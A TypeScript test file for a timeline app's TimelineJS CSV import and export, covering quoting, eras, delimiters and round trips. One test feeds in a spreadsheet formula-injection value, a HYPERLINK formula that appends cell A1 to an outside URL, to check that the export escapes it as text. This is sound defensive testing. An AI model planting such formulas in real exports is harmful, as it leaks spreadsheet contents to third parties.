// TimelineJS's spreadsheet layout as CSV: a hand-written sheet with quoted commas, quotes and line
// breaks in cells, a title row and an era, and round trips through CSV.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { parseDataset } from '../app/loading/parseDataset';
import type { Dataset } from '../schema/dataset';
import { comparePartialDates } from '../schema/partialDate';
import { partialDate } from '../testing/arbitraries';
import { readTimelineFile } from './readTimelineFile';
import { toTimelineJs } from './timelineJs';
import { csvToTimelineJs, timelineJsToCsv } from './timelineJsCsv';

const sheet = readFileSync(new URL('./fixtures/timelinejs-sheet.csv', import.meta.url), 'utf8');

async function opened(text: string, name = 'sheet.csv'): Promise<{ dataset: Dataset; notes: string[] }> {
  const read = await readTimelineFile(text, name);
  if (!read.ok) throw new Error(read.summary);
  const checked = parseDataset(JSON.stringify(read.value));
  if (!checked.ok) throw new Error(checked.summary);
  return { dataset: checked.dataset, notes: read.notes };
}

describe('TimelineJS CSV', () => {
  it('reads quoted commas, doubled quotes and line breaks inside cells', async () => {
    const { dataset } = await opened(sheet);
    expect(dataset.title).toBe('Kabul, August 2021');
    expect(dataset.description).toBe('A timeline of the airlift, in "quotes".');
    const falls = dataset.events.find((event) => event.title === 'Kabul falls, government flees');
    expect(falls?.summary).toBe('The president leaves.\n\nA new paragraph, on a new line.');
    expect(falls?.date).toMatchObject({ start: '2021-08-15' });
    expect(dataset.events.find((event) => event.title === 'Airlift, two weeks')?.date).toMatchObject({
      start: '2021-08',
      end: '2021-09',
    });
  });

  it('reads the title row and the era, and says which rows and columns it could not use', async () => {
    const { dataset, notes } = await opened(sheet);
    expect(dataset.events.map((event) => event.title)).toEqual([
      'Kabul falls, government flees',
      'Airlift, two weeks',
      'Gate attack',
      'Formula-looking',
    ]);
    expect(notes).toEqual(
      expect.arrayContaining([
        'columns not read: "Notes"',
        'left out row 7: start_date 2021-13 is not a real calendar date',
        'left out row 9: ends (2021-08) before it starts (2021-09)',
        '1 event with a time of day (Newsline dates go to the day)',
        'kept as a link (opens in a new tab), not shown as a picture: row 3: an image without alt text',
        '1 event with a background',
      ]),
    );
    expect(dataset.eras).toEqual([{ id: 'war-years', title: 'War years', start: '2001', end: '2021' }]);
  });

  it('reads a cell our export kept from being a formula as the text it was', async () => {
    const event = (await opened(sheet)).dataset.events.find(
      (candidate) => candidate.title === 'Formula-looking',
    );
    expect(event?.summary).toBe('=1+1 stays text');
    expect(event?.date).toMatchObject({ phrase: '=HYPERLINK("x")' });
  });

  it('writes cells that look like formulas so that a spreadsheet shows them as text, and reads them back', () => {
    const headline = '=HYPERLINK("https://example.org/?"&A1,"x")\nsecond line';
    const csv = timelineJsToCsv({
      events: [{ start_date: { year: 2021 }, text: { headline, text: '@SUM(A1)' }, group: '+cmd' }],
    });
    const cells = Papa.parse<string[]>(csv).data[1]!;
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([`'${headline}`, `'@SUM(A1)`, `'+cmd`]));
    const back = csvToTimelineJs(csv);
    if ('error' in back) throw new Error(back.error);
    expect(back.timeline.events[0]).toMatchObject({ text: { headline, text: '@SUM(A1)' }, group: '+cmd' });
  });

  it('reads a sheet saved with semicolons, and numbers rows as the spreadsheet does', async () => {
    const csv = 'Year;Month;Day;Headline;Text\n2021;8;15;Kabul falls;"One; two"\n\n2021;8;40;Bad day;x\n';
    const { dataset, notes } = await opened(csv);
    expect(dataset.events.map((event) => [event.title, event.summary])).toEqual([
      ['Kabul falls', 'One; two'],
    ]);
    expect(notes).toContain('left out row 4: start_date 2021-08-40 is not a real calendar date');
  });

  it('refuses CSV without the columns it needs, saying what it found', async () => {
    expect(await readTimelineFile('name,when\nA,2021\n', 'people.csv')).toEqual({
      ok: false,
      summary:
        'The file is neither JSON nor a CSV with TimelineJS’s columns. Newsline opens its own JSON, TimelineJS JSON, and CSV in TimelineJS’s spreadsheet layout.',
    });
    expect(csvToTimelineJs('Headline,Text\nA,B\n')).toEqual({
      error:
        "The CSV file does not have TimelineJS's columns (Year, Month, Day, …, Headline, Text): it has Headline, Text.",
    });
  });

  it('keeps every event, its date and precision, title and text through CSV and back', async () => {
    const text = fc
      .array(fc.stringMatching(/^[A-Za-z0-9,;"'=@+&<>\n-]{1,10}$/), { minLength: 1, maxLength: 6 })
      .map((parts) =>
        parts
          .join(' ')
          .replace(/\s*\n\s*/g, '\n')
          .trim(),
      )
      .filter((value) => value !== '' && !value.includes('\n\n'));
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.record({ title: text, summary: text, start: partialDate }), {
          minLength: 1,
          maxLength: 8,
        }),
        fc.array(fc.record({ title: text, description: text, dates: fc.tuple(partialDate, partialDate) }), {
          maxLength: 3,
        }),
        async (rows, eraRows) => {
          const eras = eraRows.map(({ dates, ...era }, i) => {
            const [start, end] = [...dates].sort(comparePartialDates) as [string, string];
            return { id: `era-${i}`, ...era, start, end };
          });
          const original: Dataset = {
            schemaVersion: 1,
            title: 'Sheet',
            ...(eras.length > 0 ? { eras } : {}),
            sources: [{ id: 's', publisher: null, title: null, url: null, published: null }],
            actors: [],
            events: rows.map((row, i) => ({
              id: `e${i}`,
              title: row.title,
              summary: row.summary,
              date: { basis: 'stated', start: row.start, approximate: false, phrase: row.start },
              actorIds: [],
              quotes: [],
              paraphrases: [],
              sources: [{ sourceId: 's', excerpt: row.summary }],
            })),
          };
          const back = (await opened(timelineJsToCsv(toTimelineJs(original).timeline))).dataset;
          const essentials = (dataset: Dataset) =>
            dataset.events.map(({ title, summary, date }) => ({
              title,
              summary,
              start: date.basis === 'bounded' ? null : date.start,
            }));
          expect(essentials(back)).toEqual(essentials(original));
          // A sheet has no column for ids: an era's comes back from its title.
          const eraEssentials = (dataset: Dataset) =>
            dataset.eras?.map(({ title, description, start, end }) => ({ title, description, start, end }));
          expect(eraEssentials(back)).toEqual(eraEssentials(original));
        },
      ),
    );
  });
});

describe('readTimelineFile', () => {
  it('tells the formats apart by their content', async () => {
    expect(await readTimelineFile('{"schemaVersion":1}')).toMatchObject({ ok: true, format: 'newsline' });
    expect(await readTimelineFile('{"events":[]}')).toMatchObject({ ok: true, format: 'timelinejs' });
    expect(await readTimelineFile('\uFEFFYear,Headline\n2021,A\n')).toMatchObject({
      ok: true,
      format: 'csv',
    });
    expect(await readTimelineFile('{ broken', 'x.json')).toMatchObject({
      ok: false,
      summary: 'The file is not valid JSON.',
    });
    expect(await readTimelineFile('<html>')).toMatchObject({ ok: false });
  });
});
